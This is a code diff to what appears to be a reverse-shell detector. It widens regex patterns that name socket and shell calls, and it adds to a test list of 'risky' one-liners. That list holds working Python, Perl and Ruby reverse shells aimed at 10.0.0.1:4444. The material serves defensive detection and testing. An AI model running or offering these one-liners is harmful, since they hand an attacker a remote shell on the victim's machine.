@@ -8,7 +8,13 @@ const netcats = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybo
 const socketCall =
   /socket\.socket|socket\.create_connection|socket\s*\(\s*s\s*,|io::socket|tcpsocket|fsockopen|net\.(?:connect|socket|createconnection)|stream_socket_client|\/inet\/tcp|\/dev\/tcp|socket\.tcp|require\s*\(?\s*["']socket["']|java\.net\.socket|net\.sockets\.tcpclient|socat/iu;
 const shellCall =
-  /\/bin\/(?:ba|z|da|k|c)?sh|["'](?:ba|z)?sh["']|["']-i["']|cmd\.exe|powershell|pty\.spawn|dup2|popen|getline|subprocess|child_process|execve?\b|shell_exec|proc_open|\bexec\b/iu;
+  /\/bin\/(?:ba|z|da|k|c)?sh|["'](?:ba|z)?sh["']|["']-i["']|cmd\.exe|powershell|pty\.spawn|dup2|popen|getline|subprocess|child_process|execve?\b|shell_exec|proc_open|\bexec\b|`\s*\$\w+\s*`/iu;
+
+/** Languages whose words for a connection are everyday ones: here the shell has to be named. */
+const otherSocket =
+  /\bnew\s+socket\s*\(|\bnet\.dial\s*\(|tcpstream::connect|\bsocket\.tcp\b|\bsocket\.connect\s*\(|\btcpclient\s*\(|socketchannel|gen_tcp/iu;
+const otherShell =
+  /["'](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh["']|cmd\.exe|["']powershell|\bshell\s*:\s*true|process\.start\s*\(|runtime\.getruntime\(\)\.exec/iu;
 
 export const reverseShell: readonly Heuristic[] = [
   {
@@ -105,7 +111,7 @@ export const reverseShell: readonly Heuristic[] = [
     score: severity.critical,
     check: onCode((code) => {
       const text = code.text.slice(0, 65_536);
-      return socketCall.test(text) && shellCall.test(text)
+      return (socketCall.test(text) && shellCall.test(text)) || (otherSocket.test(text) && otherShell.test(text))
         ? `Its ${code.language} code connects a socket to a shell`
         : null;
     }),
@@ -113,6 +119,7 @@ export const reverseShell: readonly Heuristic[] = [
       risky: [
         `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
         `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'`,
+        `groovy -e 'String c="sh";Process p=new ProcessBuilder(c).start();Socket s=new Socket("10.0.0.1",4444)'`,
         `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end;exec "/bin/sh"'`,
       ],
       honest: [
